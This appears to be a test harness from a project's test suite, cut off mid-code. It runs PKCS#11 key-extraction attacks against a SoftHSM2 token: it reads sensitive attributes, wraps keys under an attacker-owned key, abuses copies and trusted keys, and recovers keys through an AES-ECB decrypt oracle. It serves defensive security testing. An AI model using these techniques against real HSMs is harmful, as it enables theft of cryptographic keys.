"""Attacker's tool: run every key-extraction attack against ONE SoftHSM2 member token and print
the outcome as JSON. Used by tests/test_attacks.py, one process per member (SoftHSM2 reads
SOFTHSM2_CONF once per process). Deliberately independent of ckdemo: nothing here imports it.

    SOFTHSM2_CONF=HOME/softhsm2.conf python tests/attack_member.py MEMBER_LABEL \
        --keys atk-rsa,atk-ec,atk-aes [--destroy-first user|nologin] [--inspect-only]

python-pkcs11 initialises the library, opens the sessions, logs in and finds objects. Every call
whose exact CKR matters (wrap, unwrap, copy, crypt, attribute reads and writes, destroy, create,
generate) goes through the small ctypes binding below on the SAME module instance (the same
library path is dlopen'ed once), with the session and object handles python-pkcs11 exposes:
python-pkcs11 cannot pass CKA_UNWRAP_TEMPLATE, picks methods from the key's own CKA_ENCRYPT/...
flags (so it never even asks the token) and maps CKR_ACTION_PROHIBITED and
CKR_KEY_FUNCTION_NOT_PERMITTED to an unnamed error.

Output: {"member", "domain_keys": [...], "ha": {...}, "attacks": [{"no", "name", "session",
"rv", "leaked", "detail"}]}. "leaked" is True only when key material was actually recovered and
checked against the public key (RSA/EC) or against the token's own AES encryption (AES).
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import sys
from pathlib import Path
from ctypes import byref, c_ubyte, c_ulong, c_void_p

import pkcs11
from pkcs11 import Attribute, ObjectClass

SOFTHSM_LIB = os.environ.get("ATTACK_PKCS11_LIB", "/usr/lib/softhsm/libsofthsm2.so")
USER_PIN = os.environ.get("ATTACK_USER_PIN", "1234")

# ------------------------------------------------------------------ PKCS#11 constants (v2.40)
CKA_CLASS, CKA_TOKEN, CKA_PRIVATE, CKA_LABEL, CKA_VALUE = 0x0, 0x1, 0x2, 0x3, 0x11
CKA_TRUSTED = 0x86
CKA_KEY_TYPE, CKA_ID, CKA_SENSITIVE = 0x100, 0x102, 0x103
CKA_ENCRYPT, CKA_DECRYPT, CKA_WRAP, CKA_UNWRAP = 0x104, 0x105, 0x106, 0x107
CKA_SIGN, CKA_VERIFY, CKA_DERIVE = 0x108, 0x10A, 0x10C
CKA_MODULUS, CKA_PUBLIC_EXPONENT, CKA_PRIVATE_EXPONENT, CKA_PRIME_1 = 0x120, 0x122, 0x123, 0x124
CKA_VALUE_LEN, CKA_EXTRACTABLE, CKA_LOCAL = 0x161, 0x162, 0x163
CKA_NEVER_EXTRACTABLE, CKA_ALWAYS_SENSITIVE = 0x164, 0x165
CKA_MODIFIABLE, CKA_COPYABLE, CKA_DESTROYABLE = 0x170, 0x171, 0x172
CKA_EC_PARAMS, CKA_EC_POINT = 0x180, 0x181
CKA_WRAP_WITH_TRUSTED = 0x210
CKA_WRAP_TEMPLATE, CKA_UNWRAP_TEMPLATE = 0x40000211, 0x40000212
CKA_ALLOWED_MECHANISMS = 0x40000600

CKO_PUBLIC_KEY, CKO_PRIVATE_KEY, CKO_SECRET_KEY = 2, 3, 4
CKK_RSA, CKK_EC, CKK_GENERIC_SECRET, CKK_AES = 0x0, 0x3, 0x10, 0x1F

CKM_SHA256_RSA_PKCS, CKM_ECDSA, CKM_SHA256_HMAC = 0x40, 0x1041, 0x251
CKM_AES_KEY_GEN, CKM_AES_ECB, CKM_AES_CBC, CKM_AES_CBC_PAD = 0x1080, 0x1081, 0x1082, 0x1085
CKM_AES_CMAC, CKM_AES_ECB_ENCRYPT_DATA = 0x108A, 0x1104
CKM_AES_KEY_WRAP, CKM_AES_KEY_WRAP_PAD = 0x2109, 0x210A

CKR = {
    0x0: "CKR_OK",
    0x5: "CKR_GENERAL_ERROR",
    0x6: "CKR_FUNCTION_FAILED",
    0x7: "CKR_ARGUMENTS_BAD",
    0x10: "CKR_ATTRIBUTE_READ_ONLY",
    0x11: "CKR_ATTRIBUTE_SENSITIVE",
    0x12: "CKR_ATTRIBUTE_TYPE_INVALID",
    0x13: "CKR_ATTRIBUTE_VALUE_INVALID",
    0x1B: "CKR_ACTION_PROHIBITED",
    0x20: "CKR_DATA_INVALID",
    0x21: "CKR_DATA_LEN_RANGE",
    0x30: "CKR_DEVICE_ERROR",
    0x40: "CKR_ENCRYPTED_DATA_INVALID",
    0x41: "CKR_ENCRYPTED_DATA_LEN_RANGE",
    0x54: "CKR_FUNCTION_NOT_SUPPORTED",
    0x60: "CKR_KEY_HANDLE_INVALID",
    0x62: "CKR_KEY_SIZE_RANGE",
    0x63: "CKR_KEY_TYPE_INCONSISTENT",
    0x64: "CKR_KEY_NOT_NEEDED",
    0x65: "CKR_KEY_CHANGED",
    0x66: "CKR_KEY_NEEDED",
    0x67: "CKR_KEY_INDIGESTIBLE",
    0x68: "CKR_KEY_FUNCTION_NOT_PERMITTED",
    0x69: "CKR_KEY_NOT_WRAPPABLE",
    0x6A: "CKR_KEY_UNEXTRACTABLE",
    0x70: "CKR_MECHANISM_INVALID",
    0x71: "CKR_MECHANISM_PARAM_INVALID",
    0x82: "CKR_OBJECT_HANDLE_INVALID",
    0x90: "CKR_OPERATION_ACTIVE",
    0x91: "CKR_OPERATION_NOT_INITIALIZED",
    0xB3: "CKR_SESSION_HANDLE_INVALID",
    0xB5: "CKR_SESSION_READ_ONLY",
    0xD0: "CKR_TEMPLATE_INCOMPLETE",
    0xD1: "CKR_TEMPLATE_INCONSISTENT",
    0xF0: "CKR_UNWRAPPING_KEY_HANDLE_INVALID",
    0xF1: "CKR_UNWRAPPING_KEY_SIZE_RANGE",
    0xF2: "CKR_UNWRAPPING_KEY_TYPE_INCONSISTENT",
    0x100: "CKR_USER_ALREADY_LOGGED_IN",
    0x101: "CKR_USER_NOT_LOGGED_IN",
    0x110: "CKR_WRAPPED_KEY_INVALID",
    0x112: "CKR_WRAPPED_KEY_LEN_RANGE",
    0x113: "CKR_WRAPPING_KEY_HANDLE_INVALID",
    0x114: "CKR_WRAPPING_KEY_SIZE_RANGE",
    0x115: "CKR_WRAPPING_KEY_TYPE_INCONSISTENT",
    0x150: "CKR_BUFFER_TOO_SMALL",
}


def ckr(rv: int) -> str:
    return CKR.get(rv, f"CKR_0x{rv:X}")


# ------------------------------------------------------------------ a minimal ctypes binding


class CK_ATTRIBUTE(ctypes.Structure):
    _fields_ = [("type", c_ulong), ("pValue", c_void_p), ("ulValueLen", c_ulong)]


class CK_MECHANISM(ctypes.Structure):
    _fields_ = [("mechanism", c_ulong), ("pParameter", c_void_p), ("ulParameterLen", c_ulong)]


class CK_KEY_DERIVATION_STRING_DATA(ctypes.Structure):
    _fields_ = [("pData", c_void_p), ("ulLen", c_ulong)]


UNAVAILABLE = c_ulong(-1).value
_lib = ctypes.CDLL(SOFTHSM_LIB)  # the same module instance python-pkcs11 initialises
for _name in (
    "C_WrapKey",
    "C_UnwrapKey",
    "C_CopyObject",
    "C_CreateObject",
    "C_GenerateKey",
    "C_GetAttributeValue",
    "C_SetAttributeValue",
    "C_DestroyObject",
    "C_EncryptInit",
    "C_Encrypt",
    "C_DecryptInit",
    "C_Decrypt",
    "C_SignInit",
    "C_Sign",
    "C_DeriveKey",
):
    getattr(_lib, _name).restype = c_ulong


class Template:
    """A CK_ATTRIBUTE array from {type: bool | int | bytes | str | dict (nested template) | list
    of ints (mechanism list)}; keeps its buffers alive."""

    def __init__(self, attrs: dict[int, object]) -> None:
        self.keep: list[object] = []
        self.array = (CK_ATTRIBUTE * max(1, len(attrs)))()
        self.count = len(attrs)
        for i, (kind, value) in enumerate(attrs.items()):
            if isinstance(value, bool):
                buf = c_ubyte(1 if value else 0)
                ptr, size = ctypes.addressof(buf), 1
            elif isinstance(value, int):
                buf = c_ulong(value)
                ptr, size = ctypes.addressof(buf), ctypes.sizeof(c_ulong)
            elif isinstance(value, (bytes, str)):
                data = value.encode() if isinstance(value, str) else value
                buf = ctypes.create_string_buffer(data, max(1, len(data)))
                ptr, size = ctypes.addressof(buf), len(data)
            elif isinstance(value, dict):
                buf = Template(value)
                ptr, size = ctypes.addressof(buf.array), buf.count * ctypes.sizeof(CK_ATTRIBUTE)
            elif isinstance(value, list):
                buf = (c_ulong * max(1, len(value)))(*value)
                ptr, size = ctypes.addressof(buf), len(value) * ctypes.sizeof(c_ulong)
            else:
                raise TypeError(value)
            self.keep.append(buf)
            self.array[i] = CK_ATTRIBUTE(kind, ptr, size)


class Mechanism:
    def __init__(self, mechanism: int, param: bytes | ctypes.Structure | None = None) -> None:
        self.keep = param
        if param is None:
            self.struct = CK_MECHANISM(mechanism, None, 0)
        elif isinstance(param, bytes):
            self.keep = ctypes.create_string_buffer(param, len(param))
            self.struct = CK_MECHANISM(mechanism, ctypes.addressof(self.keep), len(param))
        else:
            self.struct = CK_MECHANISM(mechanism, ctypes.addressof(param), ctypes.sizeof(param))


def _two_call(call) -> tuple[int, bytes | None]:
    """C-style output: ask the length, then fetch. Returns (rv, bytes or None)."""
    length = c_ulong(0)
    rv = call(None, byref(length))
    if rv != 0:
        return rv, None
    buf = ctypes.create_string_buffer(max(1, length.value))
    rv = call(buf, byref(length))
    return rv, (buf.raw[: length.value] if rv == 0 else None)


def wrap(s: int, mech: int, wrapping: int, key: int) -> tuple[int, bytes | None]:
    m = Mechanism(mech)
    return _two_call(
        lambda out, n: _lib.C_WrapKey(c_ulong(s), byref(m.struct), c_ulong(wrapping), c_ulong(key), out, n)
    )


def unwrap(s: int, mech: int, unwrapping: int, blob: bytes, attrs: dict) -> tuple[int, int]:
    m, t, handle = Mechanism(mech), Template(attrs), c_ulong(0)
    rv = _lib.C_UnwrapKey(
        c_ulong(s),
        byref(m.struct),
        c_ulong(unwrapping),
        blob,
        c_ulong(len(blob)),
        t.array,
        c_ulong(t.count),
        byref(handle),
    )
    return rv, handle.value


def copy(s: int, obj: int, attrs: dict) -> tuple[int, int]:
    t, handle = Template(attrs), c_ulong(0)
    rv = _lib.C_CopyObject(c_ulong(s), c_ulong(obj), t.array, c_ulong(t.count), byref(handle))
    return rv, handle.value


def create(s: int, attrs: dict) -> tuple[int, int]:
    t, handle = Template(attrs), c_ulong(0)
    rv = _lib.C_CreateObject(c_ulong(s), t.array, c_ulong(t.count), byref(handle))
    return rv, handle.value


def generate(s: int, mech: int, attrs: dict) -> tuple[int, int]:
    m, t, handle = Mechanism(mech), Template(attrs), c_ulong(0)
    rv = _lib.C_GenerateKey(c_ulong(s), byref(m.struct), t.array, c_ulong(t.count), byref(handle))
    return rv, handle.value


def get(s: int, obj: int, kind: int) -> tuple[int, bytes | None]:
    attr = (CK_ATTRIBUTE * 1)(CK_ATTRIBUTE(kind, None, 0))
    rv = _lib.C_GetAttributeValue(c_ulong(s), c_ulong(obj), attr, c_ulong(1))
    if rv != 0 or attr[0].ulValueLen == UNAVAILABLE:
        return rv, None
    buf = ctypes.create_string_buffer(max(1, attr[0].ulValueLen))
    attr[0].pValue = ctypes.addressof(buf)
    rv = _lib.C_GetAttributeValue(c_ulong(s), c_ulong(obj), attr, c_ulong(1))
    return rv, (buf.raw[: attr[0].ulValueLen] if rv == 0 else None)


def get_bool(s: int, obj: int, kind: int) -> bool | None:
    rv, value = get(s, obj, kind)
    return None if value is None else value != b"\x00"


def set_attr(s: int, obj: int, attrs: dict) -> int:
    t = Template(attrs)
    return _lib.C_SetAttributeValue(c_ulong(s), c_ulong(obj), t.array, c_ulong(t.count))


def destroy(s: int, obj: int) -> int:
    return _lib.C_DestroyObject(c_ulong(s), c_ulong(obj))


def _crypt(init, run, s: int, mech: int, key: int, data: bytes, param=None) -> tuple[int, bytes | None]:
    m = Mechanism(mech, param)
    rv = init(c_ulong(s), byref(m.struct), c_ulong(key))
    if rv != 0:
        return rv, None
    return _two_call(lambda out, n: run(c_ulong(s), data, c_ulong(len(data)), out, n))


def encrypt(s, mech, key, data, param=None):
    return _crypt(_lib.C_EncryptInit, _lib.C_Encrypt, s, mech, key, data, param)


def decrypt(s, mech, key, data, param=None):
    return _crypt(_lib.C_DecryptInit, _lib.C_Decrypt, s, mech, key, data, param)


def sign(s, mech, key, data, param=None):
    return _crypt(_lib.C_SignInit, _lib.C_Sign, s, mech, key, data, param)


def derive(s: int, mech: int, base: int, param, attrs: dict) -> tuple[int, int]:
    m, t, handle = Mechanism(mech, param), Template(attrs), c_ulong(0)
    rv = _lib.C_DeriveKey(
        c_ulong(s), byref(m.struct), c_ulong(base), t.array, c_ulong(t.count), byref(handle)
    )
    return rv, handle.value


# ------------------------------------------------------------------ checking recovered material


class Truth:
    """What the HA keys really are, from their public halves and the token's own AES output: a
    recovered secret counts as leaked only when it matches."""

    def __init__(self) -> None:
        self.rsa_n = self.rsa_e = 0
        self.ec_point = b""  # uncompressed point 04||X||Y
        self.aes_probe: tuple[bytes, bytes] | None = None  # (plain block, token's AES-ECB output)

    def rsa_private_exponent(self, d: bytes) -> bool:
        if not self.rsa_n or not d:
            return False
        m = 0x1234567890ABCDEF
        return pow(pow(m, self.rsa_e, self.rsa_n), int.from_bytes(d, "big"), self.rsa_n) == m

    def ec_private_value(self, d: bytes) -> bool:
        from cryptography.hazmat.primitives.asymmetric import ec
        from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

        if not self.ec_point or not d or not (0 < int.from_bytes(d, "big")):
            return False
        try:
            key = ec.derive_private_key(int.from_bytes(d, "big"), ec.SECP256R1())
        except ValueError:
            return False
        return key.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint) == self.ec_point

    def aes_value(self, value: bytes) -> bool:
        from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

        if not value or len(value) not in (16, 24, 32):
            return False
        if self.aes_probe is None:  # cannot check: a readable 32-byte value is taken as a leak
            return len(value) == 32
        plain, expected = self.aes_probe
        out = Cipher(algorithms.AES(value), modes.ECB()).encryptor().update(plain)
        return out == expected

    def any_material(self, kind: str, data: bytes | None) -> bool:
        """data: a raw component (d / CKA_VALUE) or a PKCS#8 encoding of the key."""
        if not data:
            return False
        if kind == "rsa" and self.rsa_private_exponent(data):
            return True
        if kind == "ec" and self.ec_private_value(data):
            return True
        if kind == "aes" and self.aes_value(data):
            return True
        if kind in ("rsa", "ec"):  # a PKCS#8 encoding (SoftHSM's is not always standard DER)
            for value in der_values(data):
                if kind == "rsa" and len(value) > 64 and self.rsa_private_exponent(value):
                    return True
                if kind == "ec" and 28 <= len(value) <= 33 and self.ec_private_value(value[-32:]):
                    return True
        return False


def der_values(data: bytes, depth: int = 0):
    """Every primitive INTEGER / OCTET STRING value inside a DER blob, descending into SEQUENCEs and
    into OCTET STRINGs that hold DER themselves (PKCS#8 -> RSAPrivateKey / ECPrivateKey)."""
    i = 0
    while i + 2 <= len(data) and depth < 6:
        tag, length = data[i], data[i + 1]
        i += 2
        if length & 0x80:
            n = length & 0x7F
            if n == 0 or n > 4 or i + n > len(data):
                return
            length, i = int.from_bytes(data[i : i + n], "big"), i + n
        value = data[i : i + length]
        if len(value) != length:
            return
        i += length
        if tag & 0x20:
            yield from der_values(value, depth + 1)
        elif tag in (0x02, 0x04):
            yield value.lstrip(b"\x00") if tag == 0x02 else value
            if tag == 0x04:
                yield from der_values(value, depth + 1)


def kwp_unwrap_with_ecb_oracle(decrypt_block, blob: bytes) -> bytes | None:
    """RFC 5649 unwrap done OUTSIDE the token with nothing but an AES-ECB decryption oracle under
    the wrapping key: what a domain key that still decrypts gives away."""
    if len(blob) % 8 or len(blob) < 16:
        return None
    n = len(blob) // 8 - 1
    if n == 1:
        plain = decrypt_block(blob)
        if plain is None:
            return None
        aiv, rest = plain[:8], plain[8:]
    else:
        a, r = blob[:8], [blob[8 * (i + 1) : 8 * (i + 2)] for i in range(n)]
        for j in range(5, -1, -1):
            for i in range(n, 0, -1):
                t = (n * j + i).to_bytes(8, "big")
                block = decrypt_block(bytes(x ^ y for x, y in zip(a, t)) + r[i - 1])
                if block is None:
                    return None
                a, r[i - 1] = block[:8], block[8:]
        aiv, rest = a, b"".join(r)
    if aiv[:4] != bytes.fromhex("A65959A6"):
        return None
    length = int.from_bytes(aiv[4:], "big")
    return rest[:length]


# ------------------------------------------------------------------ the attacks


class Attacker:
    def __init__(
        self,
        member: str,
        key_labels: list[str],
        destroy_first: str,
        kept: list[tuple[str, int | None, bytes]] = (),
    ) -> None:
        # (label, domain key generation, blob) read from the home's state files, as a local user could
        self.kept = list(kept)
        self.member = member
        self.key_labels = key_labels
        self.destroy_first = destroy_first
        self.lib = pkcs11.lib(SOFTHSM_LIB)
        self.token = self.lib.get_token(token_label=member)
        self.out: dict = {"member": member, "domain_keys": [], "ha": {}, "attacks": []}
        self.truth = Truth()
        self.blobs: list[tuple[int, str, bytes]] = []  # (domain key index, kind, blob)
        self.dk_ids: list[bytes] = []  # CKA_ID of each domain key (re-found per session)

    # -------------------------------------------------------------- helpers
    def record(
        self, no: str, name: str, session: str, rv: int | str, leaked: bool = False, detail: str = "", **extra
    ) -> None:
        self.out["attacks"].append(
            {
                "no": no,
                "name": name,
                "session": session,
                "rv": rv if isinstance(rv, str) else ckr(rv),
                "leaked": bool(leaked),
                "detail": detail,
                **extra,
            }
        )

    @staticmethod
    def domain_keys(session) -> list[int]:
        found = session.get_objects({Attribute.CLASS: ObjectClass.SECRET_KEY, Attribute.TRUSTED: True})
        return sorted(o.handle for o in found)

    def ha_keys(self, session) -> dict[str, dict]:
        """{kind: {"label", "priv": handle, "pub": handle | None}} for the labels given."""
        keys = {}
        for label in self.key_labels:
            objs = list(session.get_objects({Attribute.LABEL: label}))
            by_class = {int(o[Attribute.CLASS]): o.handle for o in objs}
            if CKO_SECRET_KEY in by_class:
                keys["aes"] = {"label": label, "priv": by_class[CKO_SECRET_KEY], "pub": None}
            elif CKO_PRIVATE_KEY in by_class:
                h = by_class[CKO_PRIVATE_KEY]
                key_type = int.from_bytes(get(session.handle, h, CKA_KEY_TYPE)[1], "little")
                kind = {CKK_RSA: "rsa", CKK_EC: "ec"}.get(key_type, f"type{key_type}")
                keys[kind] = {"label": label, "priv": h, "pub": by_class.get(CKO_PUBLIC_KEY)}
            keys.setdefault("_count", {})[label] = len(objs)
        return keys

    @staticmethod
    def secret_attrs(kind: str) -> list[tuple[str, int]]:
        return {
            "rsa": [("CKA_PRIVATE_EXPONENT", CKA_PRIVATE_EXPONENT), ("CKA_PRIME_1", CKA_PRIME_1)],
            "ec": [("CKA_VALUE", CKA_VALUE)],
            "aes": [("CKA_VALUE", CKA_VALUE)],
        }[kind]

    @staticmethod
    def key_class(kind: str) -> tuple[int, int]:
        return {
            "rsa": (CKO_PRIVATE_KEY, CKK_RSA),
            "ec": (CKO_PRIVATE_KEY, CKK_EC),
            "aes": (CKO_SECRET_KEY, CKK_AES),
        }[kind]

    def read_secret(self, s: int, handle: int, kind: str) -> tuple[bool, str]:
        """Try every secret component of a key object: (leaked, which)."""
        for name, attr in self.secret_attrs(kind):
            rv, value = get(s, handle, attr)
            if rv == 0 and self.truth.any_material(kind, value):
                return True, name
        if kind in ("rsa", "ec"):  # a generic-secret copy of the blob carries PKCS#8 in CKA_VALUE
            rv, value = get(s, handle, CKA_VALUE)
            if rv == 0 and self.truth.any_material(kind, value):
                return True, "CKA_VALUE (PKCS#8)"
        return False, ""

    def own_aes_key(self, s: int) -> tuple[int, bytes | None]:
        """The attacker's own session AES key: readable value, can wrap/unwrap/encrypt/decrypt."""
        rv, h = generate(
            s,
            CKM_AES_KEY_GEN,
            {
                CKA_CLASS: CKO_SECRET_KEY,
                CKA_KEY_TYPE: CKK_AES,
                CKA_VALUE_LEN: 32,
                CKA_TOKEN: False,
                CKA_PRIVATE: True,
                CKA_SENSITIVE: False,
                CKA_EXTRACTABLE: True,
                CKA_WRAP: True,
                CKA_UNWRAP: True,
                CKA_ENCRYPT: True,
                CKA_DECRYPT: True,
                CKA_LABEL: "attacker-own",
            },
        )
        if rv != 0:
            raise SystemExit(f"cannot generate the attacker's own AES key: {ckr(rv)}")
        return h, get(s, h, CKA_VALUE)[1]

    def offline_unwrap(self, own_value: bytes, blob: bytes) -> bytes | None:
        from cryptography.hazmat.primitives.keywrap import InvalidUnwrap, aes_key_unwrap_with_padding

        try:
            return aes_key_unwrap_with_padding(own_value, blob)
        except InvalidUnwrap:
            return None

    def oracle_leak(self, s: int, key: int, kind: str) -> tuple[bool, str]:
        """If `key` (a domain key or a copy of it) decrypts with AES-ECB, unwrap every blob wrapped
        under the matching domain key outside the token."""

        def block(data: bytes) -> bytes | None:
            rv, out = decrypt(s, CKM_AES_ECB, key, data)
            return out if rv == 0 else None

        for _, blob_kind, blob in self.blobs:
            if blob_kind != kind and kind != "*":
                continue
            plain = kwp_unwrap_with_ecb_oracle(block, blob)
            if plain and self.truth.any_material(blob_kind, plain):
                return True, f"{blob_kind} recovered through an AES-ECB decrypt oracle"
        return False, ""

    # -------------------------------------------------------------- inspection (attack 9 data)
    def inspect(self, s: int, keys: dict) -> None:
        ha = {}
        for kind, k in keys.items():
            if kind.startswith("_"):
                continue
            h = k["priv"]
            info = {"label": k["label"]}
            for name, attr in (
                ("CKA_SENSITIVE", CKA_SENSITIVE),
                ("CKA_WRAP_WITH_TRUSTED", CKA_WRAP_WITH_TRUSTED),
                ("CKA_EXTRACTABLE", CKA_EXTRACTABLE),
                ("CKA_PRIVATE", CKA_PRIVATE),
                ("CKA_TOKEN", CKA_TOKEN),
                ("CKA_SIGN", CKA_SIGN),
                ("CKA_DECRYPT", CKA_DECRYPT),
                ("CKA_ENCRYPT", CKA_ENCRYPT),
                ("CKA_MODIFIABLE", CKA_MODIFIABLE),
                ("CKA_COPYABLE", CKA_COPYABLE),
            ):
                info[name] = get_bool(s, h, attr)
            info["CKA_ID"] = (get(s, h, CKA_ID)[1] or b"").hex()
            info["CKA_LABEL"] = (get(s, h, CKA_LABEL)[1] or b"").decode(errors="replace")
            data = b"attack harness: replica signature on " + self.member.encode()
            if kind == "rsa":
                n, e = get(s, k["pub"], CKA_MODULUS)[1], get(s, k["pub"], CKA_PUBLIC_EXPONENT)[1]
                self.truth.rsa_n, self.truth.rsa_e = int.from_bytes(n, "big"), int.from_bytes(e, "big")
                info.update(
                    modulus=n.hex(),
                    public_exponent=e.hex(),
                    private_modulus=(get(s, h, CKA_MODULUS)[1] or b"").hex(),
                )
                rv, sig = sign(s, CKM_SHA256_RSA_PKCS, h, data)
                info.update(sign_rv=ckr(rv), data=data.hex(), signature=(sig or b"").hex())
            elif kind == "ec":
                point = get(s, k["pub"], CKA_EC_POINT)[1] or b""
                # SoftHSM keeps CKA_EC_POINT as a DER OCTET STRING around 04||X||Y
                raw = point[2:] if len(point) == 67 and point[0] == 0x04 and point[1] == 65 else point
                self.truth.ec_point = raw
                info.update(ec_point=raw.hex(), ec_params=(get(s, k["pub"], CKA_EC_PARAMS)[1] or b"").hex())
                import hashlib

                rv, sig = sign(s, CKM_ECDSA, h, hashlib.sha256(data).digest())
                info.update(sign_rv=ckr(rv), data=data.hex(), signature=(sig or b"").hex())
            elif kind == "aes":
                plain = b"attack probe 16B"
                rv, out = encrypt(s, CKM_AES_ECB, h, plain)
                info["encrypt_rv"] = ckr(rv)
                if rv == 0:
                    self.truth.aes_probe = (plain, out)
                    info["ecb_probe"] = out.hex()
            ha[kind] = info
        ha["_count"] = keys.get("_count", {})
        self.out["ha"] = ha

    def describe_domain_keys(self, s: int, handles: list[int]) -> None:
        for h in handles:
            info = {
                "CKA_ID": (get(s, h, CKA_ID)[1] or b"").hex(),
                "CKA_LABEL": (get(s, h, CKA_LABEL)[1] or b"").decode(errors="replace"),
            }
            for name, attr in (
                ("CKA_PRIVATE", CKA_PRIVATE),
                ("CKA_SENSITIVE", CKA_SENSITIVE),
                ("CKA_EXTRACTABLE", CKA_EXTRACTABLE),
                ("CKA_MODIFIABLE", CKA_MODIFIABLE),
                ("CKA_COPYABLE", CKA_COPYABLE),
                ("CKA_DESTROYABLE", CKA_DESTROYABLE),
                ("CKA_ENCRYPT", CKA_ENCRYPT),
                ("CKA_DECRYPT", CKA_DECRYPT),
                ("CKA_SIGN", CKA_SIGN),
                ("CKA_VERIFY", CKA_VERIFY),
                ("CKA_DERIVE", CKA_DERIVE),
                ("CKA_WRAP", CKA_WRAP),
                ("CKA_UNWRAP", CKA_UNWRAP),
            ):
                info[name] = get_bool(s, h, attr)
            rv, tmpl = get(s, h, CKA_UNWRAP_TEMPLATE)
            info["CKA_UNWRAP_TEMPLATE"] = (
                ckr(rv) if rv else f"{len(tmpl or b'') // ctypes.sizeof(CK_ATTRIBUTE)} attribute(s)"
            )
            self.out["domain_keys"].append(info)
            self.dk_ids.append(get(s, h, CKA_ID)[1] or b"")

    # -------------------------------------------------------------- phase A: the user
    def phase_user(self) -> None:
        with self.token.open(rw=True, user_pin=USER_PIN) as session:
            s = session.handle
            keys = self.ha_keys(session)
            self.inspect(s, keys)
            dks = self.domain_keys(session)
            self.describe_domain_keys(s, dks)
            own, own_value = self.own_aes_key(s)
            kinds = [k for k in ("rsa", "ec", "aes") if k in keys]

            # 3. read the secret parts of the HA keys
            for kind in kinds:
                for name, attr in self.secret_attrs(kind):
                    rv, value = get(s, keys[kind]["priv"], attr)
                    self.record(
                        "3",
                        f"read {name} of HA {kind} key",
                        "user",
                        rv,
                        leaked=rv == 0 and self.truth.any_material(kind, value),
                        key=kind,
                    )

            # 2. wrap the HA keys under the user's own (untrusted) AES key
            for kind in kinds:
                rv, blob = wrap(s, CKM_AES_KEY_WRAP_PAD, own, keys[kind]["priv"])
                leaked = rv == 0 and self.truth.any_material(kind, self.offline_unwrap(own_value, blob))
                self.record("2", f"wrap HA {kind} key under own AES key (KWP)", "user", rv, leaked, key=kind)

            # 1. wrap under each trusted key, unwrap with weaker templates
            for i, dk in enumerate(dks):
                for kind in kinds:
                    priv = keys[kind]["priv"]
                    cls, ktype = self.key_class(kind)
                    rv, blob = wrap(s, CKM_AES_KEY_WRAP_PAD, dk, priv)
                    self.record(
                        "1a",
                        f"wrap HA {kind} key under domain key #{i} (KWP)",
                        "user",
                        rv,
                        key=kind,
                        dk=i,
                        allowed=True,
                    )
                    if rv != 0:
                        continue
                    self.blobs.append((i, kind, blob))
                    self.unwrap_attacks(s, dk, i, kind, cls, ktype, blob, own, own_value)

            # 1 again, with the blobs the HA slot keeps in its state folder (an unextractable key
            # cannot be wrapped any more: these are what an attacker who reads the files has)
            kind_of = {keys[k]["label"]: k for k in kinds}
            for label, generation, blob in self.kept:
                kind = kind_of.get(label)
                if kind is None:
                    continue
                cls, ktype = self.key_class(kind)
                # the domain key that wrapped it, named by the record (every one when it is not)
                named = b"ckdemo-ha-domain/g%d/%s" % (generation or 0, kind.encode())
                chosen = [i for i, key_id in enumerate(self.dk_ids) if key_id == named]
                for i, dk in enumerate(dks):
                    if chosen and i not in chosen:
                        continue
                    self.blobs.append((i, kind, blob))
                    self.unwrap_attacks(s, dk, i, kind, cls, ktype, blob, own, own_value)

            # 12. the family of domain keys for keys that are not private (CKA_PRIVATE=FALSE)
            self.public_family_attacks(s, dks, kinds, kind_of)

            # 5. the domain keys for anything but wrap/unwrap
            for i, dk in enumerate(dks):
                self.usage_attacks(s, dk, i, "user")

            # 4. copies of the domain keys
            for i, dk in enumerate(dks):
                self.copy_attacks(s, dk, i, "user")

            # 7. wrap the domain keys themselves
            for i, dk in enumerate(dks):
                for what, wrapping in [("own AES key", own), ("itself", dk)] + [
                    (f"domain key #{j}", other) for j, other in enumerate(dks) if other != dk
                ]:
                    for mech_name, mech in (("KWP", CKM_AES_KEY_WRAP_PAD), ("KW", CKM_AES_KEY_WRAP)):
                        rv, blob = wrap(s, mech, wrapping, dk)
                        leaked = False
                        if rv == 0 and wrapping == own:
                            raw = (
                                self.offline_unwrap(own_value, blob) if mech == CKM_AES_KEY_WRAP_PAD else None
                            )
                            leaked = bool(raw) and len(raw) == 32
                        self.record(
                            "7", f"wrap domain key #{i} under {what} ({mech_name})", "user", rv, leaked, dk=i
                        )

            # 8. make a trusted key of one's own
            self.trusted_attacks(s, own, "user")

            # 10. other routes: loosen the HA keys or a compliant replica of them
            self.loosen_attacks(s, keys, kinds, dks, own, own_value)

            # 6 and 10 (changing the domain keys) come last: phase_user_changes

    def public_family_attacks(self, s, dks, kinds, kind_of) -> None:
        """12: the domain keys of the family for keys that are not private (ids ending "pub"):
        (a) a private key of one's own, extractable by trusted keys only, wrapped under one to be
        unwrapped as a public key (usable with no login): the wrap must be refused; (b) a blob
        the HA slot kept (made under the private family) unwrapped with the public family's key
        of the same kind, with everything that key's unwrap template asks: no key may come out."""
        by_id = {bytes(key_id): i for i, key_id in enumerate(self.dk_ids)}
        mine = {
            CKA_CLASS: CKO_SECRET_KEY,
            CKA_KEY_TYPE: CKK_AES,
            CKA_VALUE_LEN: 32,
            CKA_TOKEN: False,
            CKA_PRIVATE: True,
            CKA_SENSITIVE: True,
            CKA_EXTRACTABLE: True,
            CKA_WRAP_WITH_TRUSTED: True,
            CKA_ENCRYPT: True,
            CKA_LABEL: "attacker-private",
        }
        rv, private_own = generate(s, CKM_AES_KEY_GEN, mine)
        for key_id, i in by_id.items():
            if not key_id.endswith(b"/aespub") or rv != 0:
                continue
            rv2, blob = wrap(s, CKM_AES_KEY_WRAP_PAD, dks[i], private_own)
            self.record(
                "12a",
                f"wrap a private AES key of one's own under domain key #{i} (public family)",
                "user",
                rv2,
                dk=i,
            )
        for label, generation, blob in self.kept:
            kind = kind_of.get(label)
            if kind is None:
                continue
            cls, ktype = self.key_class(kind)
            named = b"ckdemo-ha-domain/g%d/%spub" % (generation or 0, kind.encode())
            if named not in by_id:
                continue
            i = by_id[named]
            rv2, h = unwrap(
                s,
                CKM_AES_KEY_WRAP_PAD,
                dks[i],
                blob,
                {
                    CKA_CLASS: cls,
                    CKA_KEY_TYPE: ktype,
                    CKA_TOKEN: False,
                    CKA_PRIVATE: False,
                    CKA_SENSITIVE: True,
                    CKA_WRAP_WITH_TRUSTED: True,
